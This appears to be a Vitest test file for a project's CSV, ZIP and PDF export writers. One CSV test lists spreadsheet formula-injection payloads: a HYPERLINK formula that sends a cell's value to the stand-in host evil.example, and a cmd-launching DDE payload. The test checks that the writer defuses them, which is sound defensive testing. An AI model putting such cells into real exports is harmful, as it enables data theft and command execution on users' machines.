import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { writeCsv } from './csv.js';
import { crc32, writeZip } from './zip.js';
import { pdfString, writePdf } from './pdf/pdf-writer.js';
import { pngToPdfImage } from './pdf/png-image.js';
import { svgToPdf } from './pdf/svg-to-pdf.js';

const text = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);

/** A PNG of one colour (RGBA, filter 0 on every row) built here, so the test needs no file. */
const solidPng = (width: number, height: number, rgba: [number, number, number, number]): Uint8Array => {
  const chunk = (type: string, body: Uint8Array) => {
    const out = new Uint8Array(12 + body.length);
    const view = new DataView(out.buffer);
    view.setUint32(0, body.length);
    out.set(new TextEncoder().encode(type), 4);
    out.set(body, 8);
    view.setUint32(8 + body.length, crc32(out.subarray(4, 8 + body.length)));
    return out;
  };
  const header = new Uint8Array(13);
  new DataView(header.buffer).setUint32(0, width);
  new DataView(header.buffer).setUint32(4, height);
  header.set([8, 6, 0, 0, 0], 8);
  const raw = new Uint8Array((width * 4 + 1) * height);
  for (let row = 0; row < height; row++) for (let x = 0; x < width; x++) raw.set(rgba, row * (width * 4 + 1) + 1 + x * 4);
  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), chunk('IHDR', header), chunk('IDAT', deflateSync(raw)), chunk('IEND', new Uint8Array())]);
};

describe('CSV writer', () => {
  it('quotes fields with commas, quotes and line breaks, and ends every row with CRLF', () => {
    expect(text(writeCsv([['a', 'b,c', 'say "hi"', 'two\nlines']]))).toBe('\xef\xbb\xbfa,"b,c","say ""hi""","two\nlines"\r\n');
  });

  it('keeps a cell a spreadsheet would run as a formula (a node named =HYPERLINK(…)) as text, and numbers as numbers', () => {
    const cells = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '-12.5', '+3', 'Mara'];
    expect(text(writeCsv([cells]))).toBe(
      '\xef\xbb\xbf"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",\'+1+cmd|\' /C calc\'!A0,\'-2+3,\'@SUM(A1:A9),\'\t=1,"\'\r=1",-12.5,+3,Mara\r\n',
    );
  });
});

describe('ZIP writer', () => {
  it('computes the standard CRC-32', () => {
    expect(crc32(new TextEncoder().encode('123456789'))).toBe(0xcbf43926);
  });

  it('writes stored entries with the fixed 1980-01-01 timestamp and an end record counting them', () => {
    const zip = writeZip([{ name: 'frames/a.svg', bytes: new TextEncoder().encode('<svg/>') }, { name: 'frames/b.svg', bytes: new Uint8Array() }]);
    const view = new DataView(zip.buffer, zip.byteOffset);
    expect(view.getUint32(0, true)).toBe(0x04034b50);
    expect(view.getUint16(10, true)).toBe(0); // time 00:00
    expect(view.getUint16(12, true)).toBe(0x21); // 1980-01-01
    const end = zip.length - 22;
    expect(view.getUint32(end, true)).toBe(0x06054b50);
    expect(view.getUint16(end + 10, true)).toBe(2);
    expect(text(zip)).toContain('frames/a.svg<svg/>');
  });
});

describe('PDF writer', () => {
  it('writes an xref whose offsets point at each object', () => {
    const pdf = text(writePdf([{ width: 100, height: 100, content: 'BT /F1 12 Tf 10 10 Td (Hi) Tj ET\n', images: [] }]));
    const xrefAt = pdf.indexOf('\nxref\n') + 1;
    const xref = pdf.slice(xrefAt);
    const offsets = [...xref.matchAll(/^(\d{10}) 00000 n $/gm)].map((match) => Number(match[1]));
    expect(offsets.length).toBeGreaterThan(3);
    offsets.forEach((offset, index) => expect(pdf.slice(offset, offset + 12)).toMatch(new RegExp(`^${index + 1} 0 obj`)));
    expect(Number(/startxref\n(\d+)/.exec(pdf)?.[1])).toBe(xrefAt);
    expect(pdf).not.toMatch(/CreationDate|ModDate|\/ID/);
  });

  it('escapes parentheses and backslashes and maps typographic quotes to WinAnsi', () => {
    expect(pdfString('a(b)\\c')).toBe('(a\\(b\\)\\\\c)');
    expect(pdfString('“Eat” — now…')).toBe('(\x93Eat\x94 \x97 now\x85)');
    expect(pdfString('漢')).toBe('(?)');
  });

  it('turns an RGBA PNG take into an RGB image with an alpha soft mask', () => {
    const image = pngToPdfImage(solidPng(3, 2, [10, 20, 30, 128]));
    expect(image).not.toBeNull();
    expect([image?.width, image?.height, Boolean(image?.alpha)]).toEqual([3, 2, true]);
    expect(pngToPdfImage(new TextEncoder().encode('not a png'))).toBeNull();
  });

  it('draws SVG shapes as vector paths, flipped into the page box', () => {
    const ops = svgToPdf('<svg viewBox="0 0 200 100"><g transform="translate(10 10)"><rect width="50" height="20" fill="#ff0000"/><ellipse cx="5" cy="5" rx="2" ry="3" stroke="#000"/><text x="0" y="50">Hi</text></g></svg>', {
      x: 0,
      y: 0,
      width: 100,
      height: 50,
    });
    expect(ops.startsWith('q 0.5 0 0 -0.5 0 50 cm\n')).toBe(true);
    expect(ops).toContain('1 0 0 1 10 10 cm');
    expect(ops).toContain('1 0 0 rg 0 0 50 20 re f');
    // SVG fills default to black, so the stroked ellipse is filled and stroked.
    expect(ops).toMatch(/ c h B Q/);
    expect(ops).toContain('(Hi) Tj');
  });
});
